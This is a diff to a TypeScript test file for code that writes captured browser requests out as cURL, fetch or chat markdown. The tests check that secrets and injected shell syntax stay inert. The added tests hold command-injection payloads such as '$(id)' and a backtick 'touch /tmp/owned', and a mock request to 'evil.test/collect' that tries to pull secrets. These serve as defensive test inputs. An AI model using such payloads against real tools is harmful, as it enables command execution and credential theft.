@@ -17,10 +17,10 @@ const detail = (over: Partial<RequestDetail> = {}): RequestDetail => ({
 
 describe('a request written out (Copy as cURL / fetch, Add to Chat)', () => {
   it('cURL: every word single-quoted, a quote escaped, a secret read from its variable, headers the stack sets left out', () => {
-    const curl = toCurl(detail(), ['API_TOKEN']);
+    const curl = toCurl(detail(), { API_TOKEN: ['http://127.0.0.1:8080'] });
     assert.strictEqual(curl, [
       `curl 'http://127.0.0.1:8080/api?q=it'\\''s'`,
-      '-X PUT',
+      `-X 'PUT'`,
       `-H 'content-type: application/json'`,
       `-H 'authorization: Bearer '"$API_TOKEN"`,
       `-H 'cookie: sid=abc'`,
@@ -28,14 +28,22 @@ describe('a request written out (Copy as cURL / fetch, Add to Chat)', () => {
     ].join(' \\\n  ') + '\n');
   });
 
-  it('a placeholder a page wrote itself, with a name that is no secret of the bridge, stays text: the shell never expands it', () => {
-    const body = '{"steal":"<secret>HOME</secret>","x":"$(id)`id`"}';
-    const curl = toCurl(detail({ requestBody: { kind: 'json', mimeType: 'application/json', size: body.length, text: body } }), ['API_TOKEN']);
-    assert.match(curl, /--data-raw '\{"steal":"<secret>HOME<\/secret>","x":"\$\(id\)`id`"\}'\n$/);
+  it('a placeholder a page wrote itself stays text: a name that is no secret, or a secret of another site, is never read from the shell', () => {
+    const body = '{"steal":"<secret>HOME</secret>","bank":"<secret>BANK_PW</secret>","x":"$(id)`id`"}';
+    const curl = toCurl(detail({ url: 'http://evil.test/collect', requestBody: { kind: 'json', mimeType: 'application/json', size: body.length, text: body } }),
+      { API_TOKEN: ['http://127.0.0.1:8080'], BANK_PW: ['https://bank.test'] });
+    assert.match(curl, /--data-raw '\{"steal":"<secret>HOME<\/secret>","bank":"<secret>BANK_PW<\/secret>","x":"\$\(id\)`id`"\}'\n$/);
+    assert.match(curl, /-H 'authorization: Bearer <secret>API_TOKEN<\/secret>'/, 'not this site\'s secret either');
+    assert.doesNotMatch(curl, /'"\$/, 'no variable is read');
+  });
+
+  it('a method the page chose is quoted like the rest: backticks and $() run nothing', () => {
+    const curl = toCurl(detail({ method: "X`touch /tmp/owned`$(id)'" }), {});
+    assert.match(curl, /\n {2}-X 'X`touch \/tmp\/owned`\$\(id\)'\\' \\\n/);
   });
 
   it('a binary or cut body is left out and said so; a GET has no -X', () => {
-    const curl = toCurl(detail({ method: 'GET', requestBody: { kind: 'binary', mimeType: 'application/octet-stream', size: 5, reason: 'Binary' } }), []);
+    const curl = toCurl(detail({ method: 'GET', requestBody: { kind: 'binary', mimeType: 'application/octet-stream', size: 5, reason: 'Binary' } }), {});
     assert.doesNotMatch(curl, /-X|--data/);
     assert.match(curl, /\n# The body \(application\/octet-stream, 5 bytes\) is not text and is left out\.\n$/);
   });
@@ -44,8 +52,8 @@ describe('a request written out (Copy as cURL / fetch, Add to Chat)', () => {
     assert.match(toFetch(detail()), /^await fetch\("http:\/\/127\.0\.0\.1:8080\/api\?q=it's", \{\n {2}"method": "PUT",\n {2}"headers": \{\n {4}"content-type": "application\/json",/);
   });
 
-  it('chat: status, headers and pretty bodies, and never a cookie or authorization value', () => {
-    const markdown = toChatMarkdown(detail());
+  it('chat: status, headers and the bodies as the child pretty-printed them, never decoded again, and never a cookie or authorization value', () => {
+    const markdown = toChatMarkdown(detail({ responseBody: { kind: 'json', mimeType: 'application/json', size: 9, text: '{\n  "ok": 1\n}', pretty: true } }));
     assert.match(markdown, /^# A request from the browser panel: PUT http/);
     assert.match(markdown, /- Status: 201 Created/);
     assert.match(markdown, /- authorization: \(left out: credentials\)/);
@@ -53,5 +61,7 @@ describe('a request written out (Copy as cURL / fetch, Add to Chat)', () => {
     assert.match(markdown, /- set-cookie: \(left out: credentials\)/);
     assert.doesNotMatch(markdown, /sid=|Bearer/);
     assert.match(markdown, /## Response body\n\n```json\n\{\n {2}"ok": 1\n\}\n```/);
+    const escaped = toChatMarkdown(detail({ responseBody: { kind: 'json', mimeType: 'application/json', size: 20, text: '{"a":"p\\u00E4ss"}' } }));
+    assert.match(escaped, /\{"a":"p\\u00E4ss"\}/, 'an escape stays as the child sent it (a decode here could spell a masked secret plainly)');
   });
 });
